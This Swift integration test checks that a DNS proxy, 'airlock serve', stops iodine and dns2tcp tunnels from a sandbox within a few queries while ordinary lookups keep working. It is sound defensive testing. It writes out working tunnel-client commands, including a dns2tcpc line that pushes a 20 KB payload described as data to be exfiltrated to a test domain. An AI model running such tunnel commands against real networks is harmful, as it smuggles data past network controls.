import Foundation
import Testing

#if canImport(Glibc)
    import Glibc
#endif

/// Real DNS tunnels from a sandbox namespace whose resolver is `airlock serve`: the tunnel must be
/// stopped within a few queries while ordinary lookups from the same sandbox keep working.
extension DNSProxyIntegration {
    @Suite(
        .serialized,
        .enabled(if: Lab.enabled(TunnelLab.tools, root: true), "needs root and iodine, dns2tcp, nsd, dnsdist, socat"))
    struct TunnelBlockingTests {
        @Test func iodineIsBlockedWithinAFewQueries() throws {
            var net = try TunnelLab()
            try net.startIodined()
            try net.startAirlock()
            #expect(net.ordinaryLookupWorks())

            // DNS mode forced (-r): everything goes through the resolver. iodine gives up once its
            // handshake queries come back NXDOMAIN; bounded at 25 s either way.
            let client = try Lab.run(
                "/usr/sbin/iodine", ["-f", "-r", "-P", "airlock-test", TunnelLab.resolver, "t1.tunnel.test"],
                namespace: net.sandbox, timeout: 25)
            let figures = net.figures(domain: "tunnel.test")
            print("iodine through airlock: \(figures)")
            #expect(figures.firstBlockRule == "dns.quarantine_seconds")
            #expect(figures.allowedBeforeBlock <= 10)
            // Nothing after the block: iodine may still print "Connection setup complete" (its case
            // check now sees a path that folds case, so it keeps Base32 and gets to its fragment-size
            // probe before the block, which it survives with defaults), but every query it sends
            // from then on, the tunnel's data included, is refused.
            #expect(figures.allowedAfterBlock == 0)
            #expect(figures.queries > figures.allowedBeforeBlock + 10, "iodine kept trying; all refused")
            #expect(client.stderr.contains("NXDOMAIN"), "iodine saw the refusals")
            // The same sandbox still resolves ordinary names, over UDP and TCP.
            #expect(net.ordinaryLookupWorks())
            #expect(net.ordinaryLookupWorks("docs.example.test", tcp: true))
            #expect(net.ordinaryLookupWorks("api.example.test"))
        }

        @Test func dns2tcpIsBlockedWithinAFewQueries() throws {
            var net = try TunnelLab()
            try net.startDns2tcpd()
            try net.startAirlock()
            #expect(net.ordinaryLookupWorks())

            // 20 KB through dns2tcp's echo resource: whatever comes back got through the tunnel.
            var payload = ""
            for i in 0..<400 { payload += "line \(i) of data that would be exfiltrated through dns2tcp\n" }
            let input = try net.lab.write("payload.txt", payload)
            func runClient() throws -> Lab.Output {
                try Lab.run(
                    "/bin/sh",
                    ["-c", "timeout 15 dns2tcpc -z t2.tunnel2.test -r echo -l - \(TunnelLab.resolver) < \(input)"],
                    namespace: net.sandbox, timeout: 20)
            }
            var client = try runClient()
            var figures = net.figures(domain: "tunnel2.test")
            for _ in 0..<2 where figures.firstBlockRule == nil && client.stdout.isEmpty {
                // The client gave up before it sent enough to judge: dns2tcpd not answering yet on a
                // loaded machine, or its base64 names, forwarded in lower case, failed the server's
                // authentication. An attacker would try again: so does the test (the same budget of
                // ten queries before the block covers every attempt).
                client = try runClient()
                figures = net.figures(domain: "tunnel2.test")
            }
            let echoed = client.stdout.utf8.count
            print("dns2tcp through airlock: \(figures); \(echoed) of \(payload.utf8.count) payload bytes came back")
            #expect(figures.firstBlockRule == "dns.quarantine_seconds")
            #expect(figures.allowedBeforeBlock <= 10)
            #expect(figures.allowedAfterBlock == 0)
            #expect(echoed < 1000)
            #expect(net.ordinaryLookupWorks())
            #expect(net.ordinaryLookupWorks("docs.example.test", tcp: true))
        }
    }
}
